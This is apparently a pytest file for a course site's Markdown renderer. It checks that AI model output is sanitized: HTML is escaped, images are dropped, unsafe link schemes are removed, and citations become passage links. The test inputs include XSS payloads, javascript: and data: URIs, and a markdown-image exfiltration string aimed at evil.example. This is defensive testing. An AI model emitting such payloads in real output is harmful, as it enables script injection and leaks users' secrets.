"""Model output is rendered as sanitized Markdown: no raw HTML, no images, no script links."""

from courses.rendering import render_markdown, render_passage


def test_markdown_is_rendered():
    html = render_markdown("**fett** und `apt install`\n\n- eins\n- zwei")
    assert "<strong>fett</strong>" in html and "<code>apt install</code>" in html and "<li>eins</li>" in html


def test_raw_html_is_shown_as_text_never_run():
    html = render_markdown('<script>alert(1)</script>\n\n<div onclick="x()">a</div> <img src=x onerror=alert(1)>')
    assert "<script" not in html and "<div" not in html and "<img" not in html
    assert "&lt;script&gt;" in html


def test_images_are_dropped_so_nothing_is_fetched():
    """The markdown-image exfiltration attack: ![](https://evil/?q=secret) loads nothing; the alt text stays."""
    html = render_markdown("Antwort ![geheim](https://evil.example/x?q=secret) Ende")
    assert "<img" not in html and "evil.example" not in html
    assert "geheim" in html


def test_only_http_links_survive():
    html = render_markdown("[a](javascript:alert(1)) [b](data:text/html;base64,PHNjcmlwdD4=) [c](https://debian.org)")
    assert "javascript:" not in html and "data:" not in html
    assert 'href="https://debian.org"' in html and 'rel="noopener noreferrer nofollow"' in html


def test_numbered_citations_link_to_their_passages():
    html = render_markdown("Siehe [1] und [2], nicht [7].", {1: "/courses/3/passage/10/?lt=a&b", 2: "/p/2/"})
    assert '<a class="cite" href="/courses/3/passage/10/?lt=a&amp;b"' in html
    assert '<a class="cite" href="/p/2/"' in html
    assert "[7]" in html and html.count("<a") == 2


def test_a_number_in_brackets_inside_code_stays_code():
    """"arr[2]" in a code block or inline code is code, not a citation of source 2."""
    html = render_markdown("Siehe [1].\n\n```\nx = arr[2]\n```\n\nUnd `liste[1]` hier.", {1: "/p/1/", 2: "/p/2/"})
    assert html.count('<a class="cite"') == 1 and "arr[2]" in html and "liste[1]" in html
    assert '<a class="cite" href="/p/1/"' in html


def test_a_passage_keeps_its_paragraphs_one_block_each():
    html = render_passage("Erster Absatz mit **fett**.\nZweiter Absatz.")
    assert html == "<p>Erster Absatz mit <strong>fett</strong>.</p>\n<p>Zweiter Absatz.</p>"
